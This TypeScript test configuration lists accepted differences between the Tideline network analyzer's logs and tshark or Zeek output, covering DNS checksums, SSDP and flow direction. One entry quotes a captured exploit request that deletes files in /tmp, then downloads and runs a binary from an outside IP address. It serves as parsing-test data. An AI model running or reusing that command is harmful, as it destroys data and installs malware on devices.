/**
 * Differences between the analyzers' logs and tshark or Zeek that are
 * accepted, each with the reason: only where tshark or Zeek is shown to be
 * wrong for our purpose, or the frame is malformed. docs/conformance-analyzers.md
 * explains them at more length.
 */
export interface AcceptedAnalyzerDifference {
  /** Prefix of the item line as the test prints it, e.g. "dns frame 12" or a baseline row's first columns. */
  item: string;
  reason: string;
}

/** Items in tshark's truth that our logs may lack, per capture path relative to the public folder. */
export const acceptedAnalyzerDifferences: Record<string, AcceptedAnalyzerDifference[]> = {
  'suricata-verify/bug-5437-01__input.pcap': [
    {
      item: 'http frame 1: GET 127.0.0.1 /shell?cd+/tmp;rm+-rf+*;wget+',
      reason:
        'Malformed request line: the target holds a space ("wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm"). tshark ends ' +
        'the URI at the first space; Tideline keeps the target up to " HTTP/1.1", so its uri is longer.',
    },
    { item: 'http frame 2: GET 127.0.0.1 /shell?cd+/tmp;rm+-rf+*;wget+', reason: 'The same request sent to a second address.' },
  ],
};

/** Items accepted in any capture, matched by pattern. */
export const acceptedInEveryCapture: { pattern: RegExp; reason: string }[] = [
  {
    pattern: /^http frame \d+: (M-SEARCH|NOTIFY) /,
    reason:
      "SSDP (UPnP discovery) is HTTP-formatted text over UDP multicast. tshark's HTTP dissector shows it; Zeek's http.log " +
      'and ours cover HTTP over TCP only.',
  },
];

/** Rows of a Zeek baseline log, by log file name, that may differ from ours (extra: ours only; missing: Zeek's only). */
export const acceptedBaselineDifferences: Record<string, (AcceptedAnalyzerDifference & { side: 'extra' | 'missing' })[]> = {
  'dns-txt-multiple.pcap.scripts.base.protocols.dns.multiple-txt-strings.dns.log': [
    {
      side: 'missing',
      item: '192.150.187.50\t51946\t68.142.255.16\t53\tudp\t28079\t-\t',
      reason:
        'The query (frame 1) has a bad UDP checksum (tshark: udp.checksum.status Bad) and the baseline ran Zeek without -C, ' +
        'so Zeek dropped it and logged the response alone. Tideline does not drop packets for checksums, so it pairs them.',
    },
    {
      side: 'extra',
      item: '192.150.187.50\t51946\t68.142.255.16\t53\tudp\t28079\t0.004947\t',
      reason: 'The same exchange with its query, which Zeek dropped for the bad checksum (see the row above).',
    },
  ],
  'wikipedia.pcap.opt.basic.http.log': [
    {
      side: 'extra',
      item: '141.142.220.118\t35634\t208.80.152.2\t80\t1\tGET\twww.wikipedia.org\t/\t',
      reason:
        'The connection was captured from its middle (conn.log history DdA, no SYN or SYN-ACK) and Zeek runs no HTTP ' +
        'analyzer on it. tshark shows the complete request and response (frames 6 and 7), and Tideline logs them.',
    },
  ],
};

/**
 * Rows that differ because of a gap on our side, not accepted as correct:
 * each stays listed until the TODO it names is done, and the test fails if
 * the row starts to match (so the entry is removed with the fix).
 */
export const knownBaselineGaps: Record<string, (AcceptedAnalyzerDifference & { side: 'extra' | 'missing' })[]> = {
  'dns__max-compression-depth.pcap.scripts.base.protocols.dns.max-compression-depth.weird.log': [
    {
      side: 'missing',
      item: '5.6.7.8\t53\t1.2.3.4\t12345\tDNS_max_compression_chain_depth_exceeded\t6\t',
      reason:
        'TODO: Zeek flips a UDP flow whose originator sends a DNS response (conn.log history "^"), so its weird names ' +
        '5.6.7.8:53 as originator. Analyzers cannot flip a flow through the flow hooks yet; the weird itself matches.',
    },
    {
      side: 'extra',
      item: '1.2.3.4\t12345\t5.6.7.8\t53\tDNS_max_compression_chain_depth_exceeded\t6\t',
      reason: 'The same weird with the unflipped endpoints (see the row above).',
    },
  ],
};
